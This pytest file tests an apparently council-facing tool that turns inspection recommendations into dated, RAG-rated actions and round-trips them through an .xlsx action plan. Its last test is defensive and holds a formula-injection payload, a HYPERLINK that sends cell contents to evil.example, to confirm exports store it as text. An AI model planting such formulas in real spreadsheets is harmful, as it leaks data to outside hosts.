"""Due dates, RAG rules, recommendations → actions, updates, views, and the .xlsx round trip."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from csinspect.actions import plan
from csinspect.actions.due import add_working_days, due_date, parse_duration
from csinspect.actions.rag import rate
from csinspect.actions.xlsx import XlsxImportError, export_plan, import_plan
from csinspect.store.assessment_models import Action, ActionUpdate
from csinspect.store.audit import AuditEvent
from csinspect.store.db import session_scope
from csinspect.store.models import Authority, Inspection, Recommendation

ACTOR = "test:council"
TODAY = date(2016, 6, 1)
LUTON_2016 = [
    "Significantly reduce the average size of social workers' caseloads in the rapid intervention and assessment team.",
    "Ensure that professionals routinely receive feedback on the response to, and progress of, referrals that they have made to children's social care.",
    "Ensure that all plans are easily accessible, focused on outcomes, specific and measurable.",
]


def test_working_days_skip_weekends_and_england_bank_holidays() -> None:
    # Published Tue 22 Mar 2016; Good Friday 25 Mar and Easter Monday 28 Mar are bank holidays
    assert add_working_days(date(2016, 3, 22), 3) == date(2016, 3, 29)
    assert due_date(date(2016, 3, 22), "P20WD") == date(2016, 4, 21)
    assert due_date(date(2016, 3, 29), "P6M") == date(2016, 9, 29)
    assert due_date(date(2016, 8, 31), "P6M") == date(2017, 2, 28)
    assert due_date(date(2016, 3, 29), "P0D") == date(2016, 3, 29)
    assert parse_duration("P70WD").describe() == "70 working days"
    with pytest.raises(ValueError, match="cannot read due duration"):
        parse_duration("six months")


def test_rag_rules_name_themselves() -> None:
    assert rate("complete", date(2016, 1, 1), TODAY).rating == "blue"
    r = rate("in_progress", date(2016, 5, 1), TODAY)
    assert (r.rating, r.rule.split(":")[0]) == ("red", "overdue")
    assert rate("not_started", date(2016, 6, 20), TODAY).rule.startswith("not_started_near_due")
    assert rate("in_progress", date(2016, 6, 20), TODAY).rating == "amber"
    assert rate("in_progress", date(2017, 1, 1), TODAY, last_update=date(2016, 1, 1)).rule.startswith("stale")
    assert rate("in_progress", date(2017, 1, 1), TODAY, last_update=date(2016, 5, 1)).rating == "green"


def _inspection(url: str, framework: str, recs: list[tuple[str, str | None]], published: date) -> int:
    with session_scope(url) as s:
        if s.get(Authority, "821") is None:
            s.add(Authority(la_code="821", name="Luton"))
        insp = Inspection(
            natural_key=f"test:{framework}:{published}",
            origin="report",
            la_code="821",
            framework_id=framework,
            document_type=framework,
            published=published,
        )
        for i, (text, cat) in enumerate(recs, start=1):
            insp.recommendations.append(Recommendation(seq=i, text=text, category=cat))
        s.add(insp)
        s.flush()
        return insp.id


def test_sif_recommendations_become_actions(db_url: str) -> None:
    iid = _inspection(db_url, "sif", [(t, "recommendation") for t in LUTON_2016], date(2016, 3, 29))
    with session_scope(db_url) as s:
        acts = plan.actions_from_inspection(s, iid, ACTOR, owner="Head of service", today=TODAY)
        assert len(acts) == 3
        assert all(a.due_date == date(2016, 9, 29) for a in acts)
        assert "no timescale printed" in acts[0].due_rule and "P6M" in acts[0].due_rule
        assert acts[0].rag == "green" and acts[0].rag_rule.startswith("on_track")
    with session_scope(db_url) as s:
        assert plan.actions_from_inspection(s, iid, ACTOR) == []  # idempotent
        assert s.scalar(select(func.count()).select_from(Action)) == 3
        assert s.scalar(select(func.count()).where(AuditEvent.entity == "action")) == 3


def test_jar_and_ilacs_timescales(db_url: str) -> None:
    jar = _inspection(
        db_url,
        "jar_2007",
        [
            ("Disseminate the findings.", "immediate"),
            ("Review admissions to care.", "For action over the next six months"),
            ("Improve attainment at 14 and 16.", "longer_term"),
        ],
        date(2008, 4, 22),
    )
    ilacs = _inspection(
        db_url, "ilacs_2023", [("Improve the front door.", "priority_action")], date(2023, 9, 4)
    )
    with session_scope(db_url) as s:
        a_jar = plan.actions_from_inspection(s, jar, ACTOR, default_due=None, today=date(2008, 5, 1))
        assert [a.due_date for a in a_jar] == [date(2008, 4, 22), date(2008, 10, 22), None]
        assert "no timescale printed" in a_jar[2].due_rule
        a_il = plan.actions_from_inspection(s, ilacs, ACTOR, today=date(2023, 9, 5))
        # one action per milestone: draft plan 20 working days, final plan 70 working days
        assert [a.seq for a in a_il] == [1, 2]
        assert a_il[0].due_date == add_working_days(date(2023, 9, 4), 20) == date(2023, 10, 2)
        assert a_il[1].due_date == add_working_days(date(2023, 9, 4), 70)
        assert "20 working days" in a_il[0].due_rule


def test_unknown_recommendation_and_bad_updates_change_nothing(db_url: str) -> None:
    iid = _inspection(db_url, "sif", [(LUTON_2016[0], "recommendation")], date(2016, 3, 29))
    with session_scope(db_url) as s:
        aid = plan.actions_from_inspection(s, iid, ACTOR, today=TODAY)[0].id
    with pytest.raises(plan.ActionError, match="no recommendation with id 9999"), session_scope(db_url) as s:
        plan.add_action(s, 9999, ACTOR, description="x")
    with pytest.raises(plan.ActionError, match="unknown status"), session_scope(db_url) as s:
        plan.update_action(s, aid, ACTOR, status="done", note="finished")
    with pytest.raises(plan.ActionError, match="needs a reason"), session_scope(db_url) as s:
        plan.update_action(s, aid, ACTOR, rag="red")
    with session_scope(db_url) as s:
        assert s.scalar(select(func.count()).select_from(Action)) == 1
        assert s.scalar(select(func.count()).select_from(ActionUpdate)) == 0
        a = plan.update_action(
            s,
            aid,
            ACTOR,
            status="in_progress",
            note="Two agency workers recruited",
            evidence="HR report May 2016",
            today=TODAY,
        )
        assert a.updates[0].evidence == "HR report May 2016"


def test_views_overdue_and_at_risk(db_url: str) -> None:
    iid = _inspection(db_url, "sif", [(t, "recommendation") for t in LUTON_2016], date(2016, 3, 29))
    with session_scope(db_url) as s:
        acts = plan.actions_from_inspection(s, iid, ACTOR, today=TODAY)
        plan.update_action(s, acts[0].id, ACTOR, due=date(2016, 5, 1), today=TODAY)
        plan.update_action(s, acts[1].id, ACTOR, due=date(2016, 6, 15), today=TODAY)
    with session_scope(db_url) as s:
        overdue = plan.list_actions(s, "821", view="overdue", today=TODAY)
        at_risk = plan.list_actions(s, "821", view="at_risk", today=TODAY)
        assert [a.id for a, _ in overdue] == [acts[0].id]
        assert [a.id for a, _ in at_risk] == [acts[1].id]
        assert at_risk[0][1].rating == "red"  # not started and due within 30 days


def test_xlsx_round_trip_edit_and_errors(db_url: str, tmp_path: Path) -> None:
    iid = _inspection(db_url, "sif", [(t, "recommendation") for t in LUTON_2016], date(2016, 3, 29))
    with session_scope(db_url) as s:
        plan.actions_from_inspection(s, iid, ACTOR, today=TODAY)
    out = tmp_path / "plan.xlsx"
    with session_scope(db_url) as s:
        assert export_plan(s, "821", out, today=TODAY) == 3
    # unchanged file: nothing changes
    with session_scope(db_url) as s:
        n_audit = s.scalar(select(func.count()).select_from(AuditEvent))
        summary = import_plan(s, out, ACTOR, today=TODAY)
        assert summary.rows == 3 and summary.changed == [] and summary.ignored == []
    with session_scope(db_url) as s:
        assert s.scalar(select(func.count()).select_from(AuditEvent)) == n_audit

    wb = load_workbook(out)
    ws = wb["Action plan"]
    header = [c.value for c in ws[4]]
    col = {h: i + 1 for i, h in enumerate(header)}
    ws.cell(row=5, column=col["Owner"], value="Service manager, RAIT")
    ws.cell(row=5, column=col["Status"], value="In progress")
    ws.cell(row=5, column=col["New update"], value="Caseloads down to 22")
    ws.cell(row=5, column=col["New update evidence"], value="Performance report May 2016")
    ws.cell(row=6, column=col["Due date"], value=date(2016, 12, 31))
    ws.cell(row=7, column=col["RAG"], value="Amber")
    edited = tmp_path / "edited.xlsx"
    wb.save(edited)
    with session_scope(db_url) as s:
        summary = import_plan(s, edited, ACTOR, today=TODAY)
        assert len(summary.changed) == 3 and summary.updates_added == 1
    with session_scope(db_url) as s:
        rows = s.scalars(select(Action).order_by(Action.id)).all()
        assert rows[0].owner == "Service manager, RAIT" and rows[0].status == "in_progress"
        assert rows[0].updates[0].evidence == "Performance report May 2016"
        assert rows[1].due_date == date(2016, 12, 31)
        assert rows[2].rag == "amber" and rows[2].rag_manual
    # re-export and re-import: stable, nothing changes
    again = tmp_path / "again.xlsx"
    with session_scope(db_url) as s:
        export_plan(s, "821", again, today=TODAY)
    with session_scope(db_url) as s:
        assert import_plan(s, again, ACTOR, today=TODAY).changed == []

    def broken(mutate) -> Path:  # type: ignore[no-untyped-def]
        wb2 = load_workbook(again)
        mutate(wb2["Action plan"])
        p = tmp_path / "broken.xlsx"
        wb2.save(p)
        return p

    def change_id_and_owner(ws2) -> None:  # type: ignore[no-untyped-def]
        ws2.cell(row=5, column=col["Owner"], value="Someone else")
        ws2.cell(row=6, column=col["Action ID"], value=rows[0].id)  # a changed row id

    cases = [
        (lambda ws2: ws2.delete_cols(col["Lead member"]), "missing column"),
        (lambda ws2: ws2.cell(row=5, column=col["Action ID"], value=424242), "no action 424242"),
        (change_id_and_owner, "appears twice|does not match"),
        (lambda ws2: ws2.cell(row=5, column=col["Recommendation"], value="Something else"), "does not match"),
        (lambda ws2: ws2.cell(row=5, column=col["Status"], value="Done-ish"), "not one of"),
    ]
    for mutate, message in cases:
        p = broken(mutate)
        with pytest.raises(XlsxImportError, match=message), session_scope(db_url) as s:
            import_plan(s, p, ACTOR, today=TODAY)
        with session_scope(db_url) as s:
            assert s.get(Action, rows[0].id).owner == "Service manager, RAIT"  # nothing changed


def test_text_a_council_types_never_runs_as_a_formula_in_the_export(db_url: str, tmp_path: Path) -> None:
    """An action's owner and update typed as formulas arrive in the inspector's .xlsx as text, and the file
    re-imports unchanged."""
    import zipfile

    iid = _inspection(db_url, "sif", [(t, "recommendation") for t in LUTON_2016], date(2016, 3, 29))
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Evidence")'
    with session_scope(db_url) as s:
        first = plan.actions_from_inspection(s, iid, ACTOR, today=TODAY)[0]
        plan.update_action(s, first.id, ACTOR, owner="@SUM(1+1)", note=hostile, today=TODAY)
    out = tmp_path / "plan.xlsx"
    with session_scope(db_url) as s:
        export_plan(s, "821", out, today=TODAY)
    assert "<f>" not in zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()
    ws = load_workbook(out)["Action plan"]
    values = {c.value for row in ws.iter_rows(min_row=5) for c in row}
    assert {hostile, "@SUM(1+1)"} <= values
    with session_scope(db_url) as s:
        assert import_plan(s, out, ACTOR, today=TODAY).changed == []
